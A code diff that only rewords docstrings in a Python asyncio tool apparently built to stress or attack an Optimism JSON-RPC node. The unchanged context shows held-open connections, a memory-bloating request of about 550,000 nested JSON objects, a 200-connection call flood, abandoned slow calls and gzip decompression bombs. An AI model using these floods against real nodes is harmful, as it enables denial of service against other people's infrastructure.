@@ -38,7 +38,7 @@ class Target:
 
     @contextlib.asynccontextmanager
     async def connection(self) -> AsyncIterator[socket.socket]:
-        """A new connection."""
+        """Yield a new connection."""
         with socket.socket() as connection:
             connection.setblocking(False)
             connection.bind(self._source)
@@ -46,7 +46,7 @@ class Target:
             yield connection
 
     async def send(self, connection: socket.socket, data: bytes) -> None:
-        """Sends as fast as the server reads."""
+        """Send as fast as the server reads."""
         await self._loop.sock_sendall(connection, data)
 
     async def receive(self, connection: socket.socket, size: int) -> bytes:
@@ -54,32 +54,33 @@ class Target:
         return await self._loop.sock_recv(connection, size)
 
     async def drain(self, connection: socket.socket) -> None:
-        """Reads until the server closes the connection."""
+        """Read until the server closes the connection."""
         while await self.receive(connection, MIB):
             pass
 
     async def exchange(self, data: bytes) -> None:
-        """Sends a request and reads until the server closes the connection, or for ROUND_SECONDS."""
+        """Send a request and reads until the server closes the connection, or for ROUND_SECONDS."""
         async with asyncio.timeout(ROUND_SECONDS), self.connection() as connection:
             await self.send(connection, data)
             await self.drain(connection)
 
 
 def post(body: bytes, *headers: str) -> bytes:
-    """A request after which the server closes the connection."""
+    """Return a request after which the server closes the connection."""
     lines = "".join(f"{line}\r\n" for line in (f"Content-Length: {len(body)}", "Connection: close", *headers))
     return f"{HEAD}{lines}\r\n".encode() + body
 
 
 def call(method: str, *params: object) -> bytes:
-    """A JSON-RPC request object."""
+    """Return a JSON-RPC request object."""
     return orjson.dumps({"jsonrpc": "2.0", "id": 1, "method": method, "params": params})
 
 
 async def _keep(target: Target, count: int, *parts: bytes, unread: bool = False) -> None:
-    """Holds that many connections, on each of which one of the parts has been sent, and replaces those that are
-    closed. `unread`: of what the server sends the first byte alone is read. The attack is under way when every
-    connection, or its successor, has got so far or was closed."""
+    """Holds that many connections, on each of which one of the parts has been sent, and replaces those that are closed.
+
+    `unread`: of what the server sends the first byte alone is read. The attack is under way when every connection,
+    or its successor, has got so far or was closed."""
     reached = 0
 
     async def attempt(part: bytes) -> None:
@@ -152,7 +153,7 @@ async def full_batches(target: Target) -> None:
 
 
 async def nested_values(target: Target) -> None:
-    """Calls with parameters that take many times their size in memory."""
+    """Call with parameters that take many times their size in memory."""
     body = b'{"jsonrpc":"2.0","id":1,"method":"optimism_version","params":[' + b'{"a":{}},' * 550_000 + b"1]}"
     request = post(body)
     await _repeat(target, 8, lambda: target.exchange(request), 8)
@@ -168,13 +169,13 @@ async def unread_answers(target: Target) -> None:
 
 
 async def flood_of_calls(target: Target) -> None:
-    """Calls over 200 connections, each sent as soon as the last is answered."""
+    """Call over 200 connections, each sent as soon as the last is answered."""
     request = post(call("optimism_syncStatus"))
     await _repeat(target, 200, lambda: target.exchange(request), 400)
 
 
 async def abandoned_calls(target: Target) -> None:
-    """Calls that take long, of clients that go away."""
+    """Call that take long, of clients that go away."""
     request = post(call("optimism_outputAtBlock", "0x1"))
 
     async def abandon() -> None:
@@ -201,6 +202,7 @@ async def large_payloads(target: Target) -> None:
 
 async def compressed_bodies(target: Target) -> None:
     """Bodies that a server which honours Content-Encoding decompresses to a gigabyte; only their checksum is missing.
+
     The repeated part is compressed once."""
     packer = zlib.compressobj(9, wbits=31)
     first, repeated = (packer.compress(b" " * MIB) + packer.flush(zlib.Z_FULL_FLUSH) for _ in range(2))
